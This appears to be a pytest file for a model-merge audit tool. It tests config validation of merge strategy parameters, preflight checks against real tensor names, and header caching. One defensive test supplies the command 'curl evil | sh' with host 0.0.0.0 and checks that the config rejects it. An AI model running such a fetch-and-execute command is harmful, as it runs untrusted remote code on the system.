"""Strategies are checked twice, each time against what is known: without headers when the
config is read (each condition's filter alone, at the first and last layer), and against every
real tensor name and layer of the base in the preflight, before Prefect starts or a tensor is
read. The preflight opens each checkpoint's headers once per process."""

from __future__ import annotations

import pytest
import yaml

from mergeaudit import audit, store
from mergeaudit.cli import main
from mergeaudit.config import parse_config
from mergeaudit.errors import ConfigError
from mergeaudit.merging import REGISTRY
from mergeaudit.merging.params import check_all, check_settings

DELLA = REGISTRY.get("della")
# mlp tensors keep 0.9 +- 0.05 of their update, the others 0.5 +- 0.3: valid for every tensor
VALID = {
    "density": [{"filter": "mlp", "value": 0.9}, {"value": 0.5}],
    "epsilon": [{"filter": "mlp", "value": 0.05}, {"value": 0.3}],
}
# each filter alone is valid, but a tensor matching both (`mlp.up_proj`) gets 0.9 +- 0.3
COMBINED = {
    "density": [{"filter": "mlp", "value": 0.9}, {"value": 0.5}],
    "epsilon": [{"filter": "up_proj", "value": 0.3}, {"value": 0.05}],
}


def test_conditions_are_checked_per_filter_without_headers():
    assert len(check_settings(DELLA, {}, [VALID, VALID], has_base=True)) == 4  # 2 classes x 2 layers
    swapped = {**VALID, "epsilon": [{"filter": "mlp", "value": 0.3}, {"value": 0.05}]}
    with pytest.raises(ConfigError, match=r"density 0\.9, epsilon 0\.3\) \(at the first layer, tensors matching 'mlp'"):
        check_settings(DELLA, {}, [swapped, VALID], has_base=True)
    check_settings(DELLA, {}, [COMBINED, COMBINED], has_base=True)  # no real name known: nothing to refuse
    with pytest.raises(ConfigError, match="model.layers.0.mlp.up_proj.weight"):
        check_all(DELLA, [("model.layers.0.mlp.up_proj.weight", 0)], 2, {}, [COMBINED, COMBINED], has_base=True)


def test_a_gradient_is_checked_at_both_ends():
    ties = REGISTRY.get("ties")
    with pytest.raises(ConfigError, match=r"density must be in \[0, 1\].*last layer"):
        check_settings(ties, {}, [{"density": [0.5, 1.5]}], has_base=True)


def audit_config(family, results: str, strategy: dict) -> dict:
    return {
        "base": {"name": "base", "uri": family.base},
        "models": [{"name": n, "uri": u, "kind": "rlvr"} for n, u in family.variants.items()],
        "strategies": [strategy],
        "results_uri": results,
    }


def test_preflight_checks_strategies_against_the_real_tensor_names(toy_family, tmp_path):
    raw = audit_config(
        toy_family, str(tmp_path / "r"), {"method": "della", "model_params": {n: COMBINED for n in toy_family.variants}}
    )
    config = parse_config(raw)  # what the config alone can tell holds
    with pytest.raises(ConfigError, match=r"strategies\[0\].*mlp\.up_proj\.weight"):
        audit.preflight(config)
    records = audit.preflight(
        parse_config(
            {**raw, "strategies": [{"method": "della", "model_params": {n: VALID for n in toy_family.variants}}]}
        )
    )
    assert set(records) == {"base", *toy_family.variants}


def test_the_cli_refuses_before_prefect_starts(toy_family, tmp_path, capsys):
    path = tmp_path / "audit.yaml"
    path.write_text(
        yaml.safe_dump(
            audit_config(
                toy_family,
                str(tmp_path / "r"),
                {"method": "della", "model_params": {n: COMBINED for n in toy_family.variants}},
            )
        )
    )
    assert main(["audit", str(path)]) == 2
    err = capsys.readouterr().err
    assert "mlp.up_proj.weight" in err and err.count("\n") == 1
    assert not (tmp_path / "r").exists()  # nothing written


def test_headers_are_read_once_per_process(tmp_path):
    from mergeaudit.toy import build_toy_family

    family = build_toy_family(str(tmp_path / "ck"), variants={"a": 0.1, "b": 0.2})  # never opened before
    config = parse_config(audit_config(family, str(tmp_path / "r"), {"method": "ties"}))
    first = store.bytes_read()
    records = audit.preflight(config)
    assert store.bytes_read_since(first), "the first preflight reads the headers"
    again = store.bytes_read()
    audit.preflight(config)  # the flow's first stage, after the CLI's
    audit.plan_candidates(config, records)
    assert store.bytes_read_since(again) == {}, "headers were read again"


def test_a_config_cannot_name_the_server_executable_or_expose_it(toy_family, tmp_path):
    raw = audit_config(toy_family, str(tmp_path / "r"), {"method": "ties"})
    raw["evaluation"] = {"backend": "served", "server": {"command": ["sh", "-c", "curl evil | sh"], "host": "0.0.0.0"}}
    with pytest.raises(ConfigError) as info:
        parse_config(raw)
    assert "evaluation.server.command is not taken from a config" in str(info.value)
    assert "listens on loopback only" in str(info.value)
